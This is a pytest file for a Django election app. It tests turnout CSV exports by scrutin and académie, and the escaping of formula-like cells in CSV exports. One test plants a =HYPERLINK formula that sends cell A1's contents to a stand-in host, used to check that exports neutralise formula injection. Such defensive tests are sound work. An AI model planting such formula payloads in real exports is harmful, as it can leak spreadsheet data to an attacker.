"""The unions' turnout file (per scrutin and académie, at an instant, from the command and
the admin) and CSV exports that a spreadsheet opens without running a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from accounts.models import User
from ballots.models import CandidateList, Participation
from ballots.services.results import ListCount, scrutin_result_store
from core.csvfiles import spreadsheet_safe
from webmail_auth.models import Academie

HEADER = "campagne,scrutin,libelle,academie,inscrits,votants,participation,au"


@pytest.fixture
def turnout(electors, scrutins, times):
    """elec6 moves to Lyon; elec1 votes at the opening, elec2 a day later, elec6 at 12:00."""
    lyon = Academie.objects.create(
        code="lyon", name="Lyon", mail_domain="ac-lyon.fr", numen_code="10"
    )
    agent = electors[5].agent
    agent.academie = lyon
    agent.save()
    cta = scrutins["cta"]
    for user, moment in (
        (electors[0], times.opens),
        (electors[1], times.opens + timedelta(days=1)),
        (electors[5], times.during),
    ):
        Participation.objects.create(agent=user.agent, scrutin=cta, voted_at=moment)
    return cta


def test_turnout_writes_one_row_per_scrutin_and_academie_at_the_instant_asked(
    turnout, tmp_path, campaign
):
    out = tmp_path / "participation.csv"
    call_command(
        "turnout",
        campaign=campaign.slug,
        out=str(out),
        at="2014-11-28T12:00",
        stdout=io.StringIO(),
    )
    assert out.read_text(encoding="utf-8").splitlines() == [
        HEADER,
        "electionspro2014,CAPD-38,CAPD de l'Isère,grenoble,3,0,0.00,2014-11-28T12:00:00+01:00",
        "electionspro2014,CTA-GRE,CTA de Grenoble,grenoble,5,2,40.00,2014-11-28T12:00:00+01:00",
        "electionspro2014,CTA-GRE,CTA de Grenoble,lyon,1,0,0.00,2014-11-28T12:00:00+01:00",
    ]
    with pytest.raises(CommandError, match=r"Impossible d'écrire .*introuvable"):
        call_command("turnout", campaign=campaign.slug, out="/nonexistent/p.csv")


def test_the_admin_downloads_the_same_turnout_file(turnout, client, campaign, clock, times):
    clock.set(times.during + timedelta(minutes=1))
    admin = User.objects.create_superuser("admin@example.org", "Admin-2014-x")
    client.force_login(admin)
    response = client.post(
        "/admin/ballots/campaign/",
        {"action": "download_turnout", "_selected_action": [campaign.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().splitlines()
    assert lines[0] == HEADER
    assert lines[2].startswith("electionspro2014,CTA-GRE,CTA de Grenoble,grenoble,5,2,40.00,")
    assert lines[3].startswith("electionspro2014,CTA-GRE,CTA de Grenoble,lyon,1,1,100.00,")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_written_as_text(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("SNES-FSU") == "SNES-FSU" and spreadsheet_safe(-3) == -3


def test_a_results_export_holding_a_hyperlink_formula_opens_as_text(
    sealed, scrutins, times, tmp_path
):
    cta = scrutins["cta"]
    formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez")'
    CandidateList.objects.filter(scrutin=cta, acronym="FSU").update(organisation=formula)
    lists = {lst.acronym: lst.pk for lst in cta.lists.all()}
    counts = {"registered": 7, "voters": 6, "blank": 1, "invalid": 2}
    scrutin_result_store(scrutin=cta, source="depouillement", lists=[ListCount(lists["FSU"], 3)],
                         at=times.after_close, **counts)  # fmt: skip
    out = tmp_path / "r.csv"
    call_command("export_results", str(out), campaign="electionspro2014", stdout=io.StringIO())
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [row[9] for row in csv.reader(handle)][1:]
    assert cells[0] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_importing_a_sigle_that_looks_like_a_formula_warns(campaign, scrutins, tmp_path):
    source = tmp_path / "candidatures.csv"
    source.write_text(
        "scrutin,ordre,organisation,sigle\nCTA-GRE,4,=1+1,@SUM(A1)\n", encoding="utf-8"
    )
    errors = io.StringIO()
    call_command(
        "import_candidacies", str(source), campaign=campaign.slug, stdout=io.StringIO(),
        stderr=errors,
    )  # fmt: skip
    warnings = errors.getvalue()
    assert "line 2: organisation: commence par « = »" in warnings
    assert "line 2: sigle: commence par « @ »" in warnings
    assert CandidateList.objects.filter(scrutin=scrutins["cta"], position=4).exists()
